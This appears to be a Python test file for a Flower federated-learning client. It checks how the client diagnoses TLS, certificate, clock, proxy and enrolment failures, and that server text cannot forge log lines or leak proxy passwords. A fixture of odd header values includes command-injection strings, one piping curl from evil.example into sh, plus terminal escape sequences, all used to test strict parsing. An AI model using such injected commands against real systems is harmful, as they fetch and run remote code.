"""Asking the server, from outside: Flower's own SuperLink over TLS, and small servers that are wrong."""

import json
import socket
import time
from contextlib import closing
from datetime import UTC, datetime, timedelta

import httpx
import pytest

import client.connection
from client.connection import ask_server, clock_skew_s
from client.server_answer import Answer, ServerState, proxy_of_environment, without_password
from client.server_certificate import SeenCertificate
from common.enrolment import Enrolment
from common.errors import ConfigError
from common.flower_programs import free_port
from common.node_keys import load_private_key, load_public_key, make_key, public_key_of
from tests.client.certificates import Authority
from tests.client.small_servers import (
    SuperLink,
    hanging_up_server,
    http_answer,
    plaintext_server,
    proxy,
    silent_server,
    tls_server,
)

BUNDLE = "a" * 64
ANNOUNCED = f"0.1.0;schema=1;bundle={BUNDLE}"


class Hospital:
    def __init__(self, folder, name):
        self.name, self.public = name, folder / f"{name}.key.pub"
        make_key(folder / f"{name}.key", self.public, comment=name)
        self.key = load_private_key(folder / f"{name}.key")
        self.fingerprint = load_public_key(self.public).fingerprint

    def enrolment(self, authority, port, *, host="127.0.0.1", fingerprint=""):
        return Enrolment(
            federation="films",
            hospital=self.name,
            enrolled_patients=120,
            fingerprint=fingerprint or self.fingerprint,
            address=f"{host}:{port}",
            release="0.1.0",
            wire_schema=1,
            bundle_sha256=BUNDLE,
            ca_certificate=authority.pem,
        )


@pytest.fixture(scope="module")
def authority():
    return Authority("Films CA")


@pytest.fixture(scope="module")
def superlink(tmp_path_factory, authority):
    with SuperLink(tmp_path_factory.mktemp("superlink"), authority) as running:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and running.process.is_running:
            try:
                with closing(socket.create_connection(("127.0.0.1", running.port), 1)):
                    break
            except OSError:
                time.sleep(0.2)
        else:
            pytest.fail("\n".join(running.process.last_lines()))
        yield running


@pytest.fixture
def hospital(tmp_path):
    return Hospital(tmp_path, "north")


@pytest.fixture
def tls(tmp_path, authority):
    """Makes a TLS server with a certificate of the federation's authority."""

    def make(status=200, body=b"", *, by=None, names=("localhost", "127.0.0.1"), days=(-1, 100), **headers):
        files = (by or authority).issue(tmp_path / "tls", names=names, days=days)
        return tls_server(*files, http_answer(status, body, **headers))

    return make


def says(answer, *words):
    """All three lines are there and contain the words."""
    assert answer.what
    assert answer.why
    assert answer.fix
    lines = answer.text().splitlines()
    assert len(lines) == 3
    for word in words:
        assert word in answer.text(), answer.text()


# What Flower's server answers.


def test_an_enrolled_key_is_ready_and_leaves_no_session_behind(superlink, authority, tmp_path):
    north = Hospital(tmp_path, "ready")
    node = superlink.register(north.public, north.name)
    for _ in range(3):  # asking again finds the same
        answer = ask_server(north.enrolment(authority, superlink.port), north.key)
        assert answer.state is ServerState.READY, answer.text()
        assert answer.is_enrolled
        assert superlink.status_of(node) == "offline"
    assert abs(answer.clock_skew_s) < 2
    assert 99 < answer.certificate_days_left < 100.1
    assert (answer.server_release, answer.server_schema) == ("", None)  # a bare SuperLink says nothing


def test_a_key_that_is_online_stays_so(superlink, authority, tmp_path):
    from flwr.proto.fleet_pb2 import ActivateNodeRequest, DeactivateNodeRequest
    from flwr.supernode.fleet_http_client import FleetHttpClient
    from flwr.supernode.node_auth_http_interceptor import NodeAuthHttpInterceptor

    north = Hospital(tmp_path, "online")
    node = superlink.register(north.public, north.name)
    signature = NodeAuthHttpInterceptor(north.key, north.key.public_key())
    address = f"127.0.0.1:{superlink.port}"
    session = FleetHttpClient.from_server_address(address, False, authority.pem.encode(), [signature])
    with closing(session):
        pem = public_key_of(north.key).pem
        session.ActivateNode(ActivateNodeRequest(public_key=pem, heartbeat_interval=30))
        for _ in range(3):
            answer = ask_server(north.enrolment(authority, superlink.port), north.key)
            assert answer.state is ServerState.ONLINE
            assert superlink.status_of(node) == "online"
        says(answer, "already connected", "from elsewhere", "60 s", "revoke online")
        session.DeactivateNode(DeactivateNodeRequest(node_id=node))
    assert ask_server(north.enrolment(authority, superlink.port), north.key).state is ServerState.READY


def test_an_unknown_key_is_told_its_fingerprint_and_the_operators_command(superlink, authority, hospital):
    enrolment = hospital.enrolment(authority, superlink.port, fingerprint="SHA256:" + "B" * 43)
    answer = ask_server(enrolment, hospital.key)
    assert answer.state is ServerState.NOT_ENROLLED
    assert answer.needs_a_person
    enroll = "flower-server enroll north hospital.key.pub --patients 120 --replace-key"
    says(answer, "not enrolled", hospital.fingerprint, "SHA256:" + "B" * 43, enroll)


def test_a_revoked_key_is_told_so(superlink, authority, tmp_path):
    north = Hospital(tmp_path, "revoked")
    enrolment = north.enrolment(authority, superlink.port)
    node = superlink.register(north.public, north.name)
    assert ask_server(enrolment, north.key).state is ServerState.READY
    superlink.unregister(node)
    answer = ask_server(enrolment, north.key)
    assert answer.state is ServerState.REVOKED
    says(answer, "revoked", north.fingerprint, "flower-server roster", "renew-key", "--replace-key")


@pytest.mark.parametrize(
    ("shift_s", "state"),
    [
        (10, ServerState.CLOCK),
        (-400, ServerState.CLOCK),
        (3, ServerState.READY),
        (-200, ServerState.READY),
    ],
)
def test_a_wrong_clock_is_named_with_both_times(superlink, authority, tmp_path, monkeypatch, shift_s, state):
    def shifted():
        return datetime.now(UTC) + timedelta(seconds=shift_s)

    monkeypatch.setattr("flwr.supernode.node_auth_http_interceptor.now", shifted)
    monkeypatch.setattr(client.connection, "_now", shifted)
    north = Hospital(tmp_path, f"clock{shift_s}")
    superlink.register(north.public, north.name)
    answer = ask_server(north.enrolment(authority, superlink.port), north.key)
    assert answer.state is state, answer.text()
    assert abs(answer.clock_skew_s - shift_s) < 1.5
    if state is ServerState.CLOCK:
        there = datetime.now(UTC).strftime("%Y-%m-%d %H:")
        here = shifted().strftime("%Y-%m-%d %H:")
        side = "ahead of" if shift_s > 0 else "behind"
        says(answer, there, here, side, "5 s ahead / 305 s behind", "timedatectl")


def test_through_a_proxy_the_server_is_the_same(superlink, authority, tmp_path, monkeypatch):
    north = Hospital(tmp_path, "proxied")
    superlink.register(north.public, north.name)
    enrolment = north.enrolment(authority, superlink.port, host="localhost")
    with proxy() as way:
        answer = ask_server(enrolment, north.key, https_proxy=f"http://127.0.0.1:{way.port}")
        assert answer.state is ServerState.READY, answer.text()
        assert answer.certificate_days_left > 99
        assert way.asked[0].startswith(f"CONNECT localhost:{superlink.port} ")
        # The environment's proxy holds too, and NO_PROXY with it.
        monkeypatch.setenv("HTTPS_PROXY", f"http://127.0.0.1:{way.port}")
        monkeypatch.setenv("NO_PROXY", "")
        before = len(way.asked)
        assert ask_server(enrolment, north.key).state is ServerState.READY
        assert len(way.asked) == before + 1
        monkeypatch.setenv("NO_PROXY", "localhost")
        assert ask_server(enrolment, north.key).state is ServerState.READY
        assert len(way.asked) == before + 1


# What is wrong on the way.


def test_a_server_of_another_authority_is_not_trusted(authority, hospital, tls):
    with tls(by=Authority("Inspection CA")) as server:
        answer = ask_server(hospital.enrolment(authority, server.port), hospital.key)
        assert answer.state is ServerState.CA_WRONG
        says(answer, "expected name: 127.0.0.1", "localhost, 127.0.0.1", "Inspection CA", "enrolment.toml")
        assert server.asked == []  # not a byte of a request


def test_a_certificate_for_another_name_lists_its_names(authority, hospital, tls):
    with tls(names=("fl.example.org", "10.0.0.7")) as server:
        answer = ask_server(hospital.enrolment(authority, server.port, host="localhost"), hospital.key)
        assert answer.state is ServerState.NAME_WRONG
        says(answer, "expected name: localhost", "fl.example.org, 10.0.0.7", "enrolment.toml")
        by_number = ask_server(hospital.enrolment(authority, server.port), hospital.key)
        assert by_number.state is ServerState.NAME_WRONG
        says(by_number, "expected name: 127.0.0.1")
        assert server.asked == []


def test_a_certificate_without_names_says_so(authority, hospital, tls):
    with tls(names=()) as server:
        answer = ask_server(hospital.enrolment(authority, server.port), hospital.key)
    assert answer.state is ServerState.NAME_WRONG
    says(answer, "names in the certificate: none")


@pytest.mark.parametrize(
    ("days", "word"), [((-20, -10), "has expired"), ((10, 20), "is not valid yet")], ids=["expired", "future"]
)
def test_a_certificate_outside_its_time_shows_time_and_clock(authority, hospital, tls, days, word):
    with tls(days=days) as server:
        answer = ask_server(hospital.enrolment(authority, server.port), hospital.key)
    assert answer.state is ServerState.CERTIFICATE_EXPIRED
    end = (datetime.now(UTC) + timedelta(days=days[1])).strftime("%Y-%m-%d")
    says(answer, "the server's certificate", word, end, "clock says", "flower-server renew")


def test_an_expired_authority_is_told_from_an_expired_server(hospital, tls):
    old = Authority(days=(-20, -10))
    with tls(by=old) as server:
        answer = ask_server(hospital.enrolment(old, server.port), hospital.key)
    assert answer.state is ServerState.CERTIFICATE_EXPIRED
    says(answer, "certificate authority", "has expired")


def test_a_server_without_tls_gets_nothing(authority, hospital):
    with plaintext_server(http_answer(400)) as server:
        answer = ask_server(hospital.enrolment(authority, server.port), hospital.key)
        assert answer.state is ServerState.PLAINTEXT_SERVER
        says(answer, "does not speak TLS", "--insecure", "listen")
        assert all(b"POST" not in asked for asked in server.asked)


def test_a_closed_port_is_unreachable(authority, hospital):
    answer = ask_server(hospital.enrolment(authority, free_port()), hospital.key)
    assert answer.state is ServerState.UNREACHABLE
    assert not answer.needs_a_person
    says(answer, "refused", "outgoing TCP")


def test_a_name_that_does_not_exist_is_unreachable(authority, hospital):
    answer = ask_server(hospital.enrolment(authority, 443, host="no-such.invalid"), hospital.key)
    assert answer.state is ServerState.UNREACHABLE
    says(answer, "no-such.invalid:443 cannot be reached", "DNS")


def test_a_server_that_hangs_up_was_cut(authority, hospital):
    with hanging_up_server() as server:
        answer = ask_server(hospital.enrolment(authority, server.port), hospital.key)
    assert answer.state is ServerState.UNREACHABLE
    says(answer, "was cut", "inspection")


def test_a_silent_server_times_out(authority, hospital):
    with silent_server() as server:
        started = time.monotonic()
        answer = ask_server(hospital.enrolment(authority, server.port), hospital.key, timeout_s=0.5)
    assert time.monotonic() - started < 3
    assert answer.state is ServerState.TIMEOUT
    says(answer, "within 0.5 s", "firewall", "no inbound port")


@pytest.mark.parametrize("status", [502, 503, 504])
def test_a_busy_server_is_asked_again_later(authority, hospital, tls, status):
    with tls(status, x_hospital_federation=ANNOUNCED) as server:
        answer = ask_server(hospital.enrolment(authority, server.port), hospital.key)
    assert answer.state is ServerState.BUSY
    assert not answer.needs_a_person
    assert (answer.server_release, answer.server_schema, answer.server_bundle) == ("0.1.0", 1, BUNDLE)
    says(answer, f"HTTP {status}")


@pytest.mark.parametrize(
    ("status", "body"),
    [
        (404, b"<html>nginx"),
        (500, b'{"detail": "Internal server error."}'),
        (200, b"\xff\xff"),
        (200, b""),
        (302, b""),
    ],
)
def test_another_program_at_the_address_is_told_with_its_words(authority, hospital, tls, status, body):
    with tls(status, body) as server:
        answer = ask_server(hospital.enrolment(authority, server.port), hospital.key)
    assert answer.state is ServerState.OTHER
    says(answer, f"HTTP {status}", "address in enrolment.toml")
    assert (answer.server_release, answer.server_schema, answer.server_bundle) == ("", None, "")


def test_a_refused_signature_with_a_right_clock_blames_the_way(authority, hospital, tls):
    with tls(401) as server:
        answer = ask_server(hospital.enrolment(authority, server.port), hospital.key)
    assert answer.state is ServerState.OTHER
    says(answer, "signature", hospital.fingerprint, "proxy or firewall")


ODD_ANNOUNCEMENTS = {
    "nothing": "",
    "no parts": ";;;",
    "words": "0.1.0;schema=x;bundle",
    "a digit of another kind": "0.1.0;schema=²",
    "more digits than an int takes": f"0.1.0;schema={'9' * 5000};bundle={BUNDLE}",
    "a command": "0.1.0;schema=1;bundle=0 && curl https://evil.example | sh",
    "a command behind a digest": f"0.1.0;schema=1;bundle={BUNDLE} && id",
    "a digest in capitals": f"0.1.0;schema=1;bundle={'A' * 64}",
    "a command as release": "0.1.0 && id;schema=1;bundle=x",
    "a long release": f"{'1' * 33};schema=1;bundle=x",
    "an escape sequence": "0.1.0\x1b[2Jyou are fine;schema=1;bundle=x",
    "a letter that looks like one": "0.1.0а;schema=1;bundle=x",
}


@pytest.mark.parametrize("said", ODD_ANNOUNCEMENTS.values(), ids=ODD_ANNOUNCEMENTS)
def test_an_announcement_is_taken_only_in_its_exact_form(said):
    found = client.connection._announced({"x-hospital-federation": said})
    assert found["server_release"] in ("", "0.1.0")
    assert found["server_schema"] in (None, 1)
    assert found["server_bundle"] in ("", BUNDLE)
    assert found["server_bundle"] == "" or said.endswith(f"bundle={BUNDLE}")


@pytest.mark.parametrize(
    "said", [said for said in ODD_ANNOUNCEMENTS.values() if said.isascii() and said.isprintable()]
)
def test_a_strange_announcement_is_no_error(authority, hospital, tls, said):
    with tls(503, x_hospital_federation=said) as server:
        answer = ask_server(hospital.enrolment(authority, server.port), hospital.key)
    assert answer.state is ServerState.BUSY
    assert answer.server_schema in (None, 1)
    assert answer.server_bundle in ("", BUNDLE)


ODD_DATES = ["", "x", "Fri, 31 Dec 9999 23:59:59 -2359", "Tue, 01 Jan 2030 12:00:00 +99999999999999"]
ODD_DATES += [
    "Tue, 99999999999999999999 Jan 1 12:00:00 GMT",
    "9" * 5000,
    ",",
    "a,b c",
]


@pytest.mark.parametrize("date", ODD_DATES)
def test_a_strange_date_is_no_error(authority, hospital, tls, date):
    with tls(401, Date=date) as server:
        answer = ask_server(hospital.enrolment(authority, server.port), hospital.key)
    assert answer.state is ServerState.OTHER
    assert answer.clock_skew_s is None


FORGED = "fine\x1b[2J\r\n2030-01-01 00:00:00 connected: release 9"


def is_fit_for_a_log(answer):
    lines = answer.text().split("\n")
    return len(lines) <= 3 and all(line.isprintable() for line in lines)


def test_the_words_of_another_program_cannot_forge_a_line(authority, hospital, tls):
    for body in (json.dumps({"detail": FORGED}).encode(), b"\x1b[31mred\x9b\x85", b"[" * 100_000):
        with tls(500, body) as server:
            answer = ask_server(hospital.enrolment(authority, server.port), hospital.key)
        assert answer.state is ServerState.OTHER
        assert is_fit_for_a_log(answer), answer.text()
        assert len(answer.why) < 200


def test_a_server_cannot_end_this_process_or_write_into_its_log(authority, hospital, tls, caplog):
    said = {"code": 1001, "detail": "versions", "extra": FORGED}
    message = {"flwr-version-incompatibility-message": "forged \x1b[2J"}
    for status in (412, 400, 500):
        with tls(status, json.dumps(said).encode(), **message) as server:
            answer = ask_server(hospital.enrolment(authority, server.port), hospital.key)
        assert answer.state is ServerState.OTHER
        says(answer, "another release of Flower", "versions", "install the release")
    assert "forged" not in caplog.text


def test_the_names_in_a_certificate_cannot_forge_a_line(authority, hospital, tls):
    many = tuple(f"{n}.example.org" for n in range(40))
    with tls(by=Authority("Inspection\nconnected\x1b[2J"), names=many) as server:
        answer = ask_server(hospital.enrolment(authority, server.port), hospital.key)
    assert answer.state is ServerState.CA_WRONG
    assert is_fit_for_a_log(answer), answer.text()
    says(answer, "9.example.org and 30 more", "Inspection?connected")
    assert "10.example.org" not in answer.text()


def test_a_certificate_that_cannot_be_read_is_a_value_error_only():
    for der in (b"", b"\x30\x03\x02\x01\x07", b"\x30" * 50):
        with pytest.raises(ValueError, match="no certificate"):
            SeenCertificate.read(der)


def test_a_proxy_cannot_forge_a_line(authority, hospital):
    refusal = b"HTTP/1.1 403 No\x1b[2J connected\r\nContent-Length: 0\r\n\r\n"
    with proxy(refusal) as way:
        enrolment = hospital.enrolment(authority, 443, host="fl.invalid")
        answer = ask_server(enrolment, hospital.key, https_proxy=f"http://127.0.0.1:{way.port}")
    assert is_fit_for_a_log(answer), answer.text()


def test_a_name_that_no_dns_takes_is_unreachable(authority, hospital):
    for host in ("a" * 70 + ".example", "a..example"):
        answer = ask_server(hospital.enrolment(authority, 443, host=host), hospital.key)
        assert answer.state is ServerState.UNREACHABLE
        says(answer, "DNS")


@pytest.mark.parametrize("state", [ServerState.UNREACHABLE, ServerState.TIMEOUT, ServerState.BUSY])
def test_a_server_that_was_there_has_gone_and_no_firewall_is_to_be_opened(state):
    answer = Answer(
        state=state,
        what="it cannot be reached",
        why="refused",
        fix="open the firewall",
        address="fl.example:8443",
    )
    assert "open the firewall" in answer.text()
    what, why, fix = answer.text(was_connected=True).splitlines()
    assert what == "the server at fl.example:8443 has gone"
    assert "was connected before, so its firewall is right" in why
    assert fix == "nothing is to be done: this client waits and connects by itself"


def test_what_a_person_must_mend_is_told_as_it_is_also_later():
    answer = Answer(state=ServerState.CA_WRONG, what="another authority", why="w", fix="f", address="a:1")
    assert answer.text(was_connected=True) == answer.text()


def test_a_server_that_has_gone_is_told_with_its_address(authority, hospital):
    port = free_port()
    answer = ask_server(hospital.enrolment(authority, port), hospital.key)
    assert answer.text(was_connected=True).startswith(f"the server at 127.0.0.1:{port} has gone\n")
    for status, has_gone in ((502, True), (503, True), (403, False), (407, False)):
        with proxy(http_answer(status)) as way:
            through = f"http://127.0.0.1:{way.port}"
            answer = ask_server(hospital.enrolment(authority, 443), hospital.key, https_proxy=through)
        assert answer.state is ServerState.PROXY
        assert ("has gone" in answer.text(was_connected=True)) is has_gone


# Proxies.


@pytest.mark.parametrize(
    ("status", "hint"), [(403, "CONNECT"), (407, "user:password"), (502, "the proxy itself does not reach")]
)
def test_a_proxy_that_refuses_is_named(authority, hospital, status, hint):
    with proxy(http_answer(status)) as way:
        address = f"127.0.0.1:{way.port}"
        enrolment = hospital.enrolment(authority, 443, host="fl.invalid")
        answer = ask_server(enrolment, hospital.key, https_proxy=f"http://doctor:secret@{address}")
    assert answer.state is ServerState.PROXY
    says(answer, f"the proxy http://{address} does not connect to fl.invalid:443", str(status), hint)
    assert "secret" not in answer.text()


def test_a_proxy_that_is_not_there_is_named(authority, hospital):
    way = f"http://127.0.0.1:{free_port()}"
    answer = ask_server(hospital.enrolment(authority, 443, host="fl.invalid"), hospital.key, https_proxy=way)
    assert answer.state is ServerState.PROXY
    says(answer, f"the proxy {way} cannot be reached", "https-proxy")


def test_a_proxy_address_with_the_wrong_scheme_is_explained(authority, hospital):
    with plaintext_server(http_answer(400)) as way:
        answer = ask_server(
            hospital.enrolment(authority, 443, host="fl.invalid"),
            hospital.key,
            https_proxy=f"https://127.0.0.1:{way.port}",
        )
    assert answer.state is ServerState.PROXY
    says(answer, "does not speak TLS", "http://host:port")


def test_names_in_a_certificate_are_seen_through_a_proxy(authority, hospital, tls):
    with tls(names=("fl.example.org",)) as server, proxy() as way:
        answer = ask_server(
            hospital.enrolment(authority, server.port),
            hospital.key,
            https_proxy=f"http://127.0.0.1:{way.port}",
        )
    assert answer.state is ServerState.NAME_WRONG
    says(answer, "fl.example.org")


@pytest.mark.parametrize("wrong", ["ftp://proxy:21", "proxy.example:3128", "http://proxy:port"])
def test_a_proxy_that_is_no_address_is_refused(authority, hospital, wrong):
    with pytest.raises(ConfigError, match="https-proxy") as refused:
        ask_server(hospital.enrolment(authority, 443), hospital.key, https_proxy=wrong)
    assert "http://host:port" in str(refused.value)


@pytest.mark.parametrize(
    "wrong",
    [
        "ftp://doctor:secret@proxy:21",
        "http://doctor:secret/x@proxy:port",
        "http://doctor:secret#1@proxy:3128",
        "doctor:secret@proxy:3128",
        "http://doctor:secret@[proxy",
    ],
)
def test_a_proxys_password_is_in_no_message(authority, hospital, wrong):
    try:
        said = ask_server(
            hospital.enrolment(authority, 443), hospital.key, https_proxy=wrong, timeout_s=1
        ).text()
    except ConfigError as error:
        said = str(error)
    assert "secret" not in said
    assert "doctor" not in said
    assert "proxy" in without_password(wrong)
    assert "secret" not in without_password(wrong)


def test_an_authority_that_is_none_is_refused(authority, hospital):
    enrolment = hospital.enrolment(authority, 443).model_copy(update={"ca_certificate": "not a certificate"})
    with pytest.raises(ConfigError, match="ca-certificate"):
        ask_server(enrolment, hospital.key)


def test_the_environments_proxy_is_read_as_usual(monkeypatch):
    for name in ("HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy", "NO_PROXY", "no_proxy"):
        monkeypatch.delenv(name, raising=False)
    assert proxy_of_environment("fl.example.org:443") == ""
    monkeypatch.setenv("HTTPS_PROXY", "proxy.example:3128")
    assert proxy_of_environment("fl.example.org:443") == "http://proxy.example:3128"
    monkeypatch.setenv("NO_PROXY", "example.org")
    assert proxy_of_environment("fl.example.org:443") == ""


def test_clock_skew_is_read_from_the_date_header():
    now = datetime(2030, 1, 1, 12, 0, 10, tzinfo=UTC)
    headers = httpx.Headers({"Date": "Tue, 01 Jan 2030 12:00:00 GMT"})
    assert clock_skew_s(headers, now=now) == 9.5
    assert clock_skew_s(httpx.Headers({"Date": "yesterday"}), now=now) is None
    assert clock_skew_s(httpx.Headers(), now=now) is None
